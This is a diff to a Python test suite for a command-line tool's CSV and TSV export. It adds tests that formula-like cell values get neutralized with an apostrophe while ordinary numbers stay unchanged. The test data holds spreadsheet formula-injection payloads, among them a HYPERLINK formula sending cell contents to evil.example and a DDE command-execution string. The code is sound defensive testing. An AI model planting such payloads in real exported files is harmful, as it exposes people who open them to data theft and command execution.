@@ -14,6 +14,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
+from reasoning_cli.spreadsheet import cell
 from reasoning_cli.terminal.listing import Column, Format, Listing, plain, to_json, to_json_lines, to_separated
 
 
@@ -41,7 +42,7 @@ def test_people_see_a_dash_where_machines_see_null() -> None:
     assert Listing([column], [{"price": None}], id=str).records() == [{"price": None}]
 
 
-cells = st.none() | st.booleans() | st.integers() | st.text(st.characters(codec="utf-8", exclude_characters="\r"))
+cells = st.none() | st.booleans() | st.integers() | st.text(st.characters(codec="utf-8"))
 records = st.lists(st.fixed_dictionaries({"name": cells, "value": cells}), max_size=5)
 
 
@@ -56,7 +57,7 @@ def test_separated_values_are_read_back_as_text(fmt: Format, delimiter: str) -> 
     @given(records)
     def read_back(rows: list[dict[str, object]]) -> None:
         text = to_separated(["name", "value"], rows, fmt)
-        header, *lines = csv.reader(io.StringIO(text), delimiter=delimiter)
+        header, *lines = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
         assert header == ["name", "value"]
         assert lines == [[spelt(row[key]) for key in header] for row in rows]
 
@@ -67,7 +68,37 @@ def test_separated_values_are_read_back_as_text(fmt: Format, delimiter: str) -> 
 def spelt(value: object) -> str:
     if value is None:
         return ""
-    return str(value).lower() if isinstance(value, bool) else str(value)
+    return str(value).lower() if isinstance(value, bool) else cell(value) if isinstance(value, str) else str(value)
+
+
+@pytest.mark.parametrize("fmt", [Format.CSV, Format.TSV])
+@pytest.mark.parametrize(
+    ("value", "shown"),
+    [
+        ('=HYPERLINK("http://evil.example/?"&A1)', '\'=HYPERLINK("http://evil.example/?"&A1)'),
+        ("+1-2", "'+1-2"),
+        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+        ("@SUM(1)", "'@SUM(1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("＝1", "'＝1"),
+        ("- a list", "'- a list"),
+        ("-5", "-5"),
+        ("+3.2", "+3.2"),
+        ("-1,234.50", "-1,234.50"),
+        ("-.5e-7", "-.5e-7"),
+        (Decimal("-0.25"), "-0.25"),
+        (-5, "-5"),
+        (-5.5, "-5.5"),
+        (None, ""),
+        ("a=b", "a=b"),
+        (["=1"], '["=1"]'),
+    ],
+)
+def test_no_cell_is_a_formula_and_numbers_stay_numbers(fmt: Format, value: object, shown: str) -> None:
+    text = to_separated(["a", "b"], [{"a": "x", "b": plain(value)}], fmt)
+    delimiter = "\t" if fmt is Format.TSV else ","
+    assert list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))[1] == ["x", shown]
 
 
 def test_characters_stay_as_they_are_in_json() -> None:
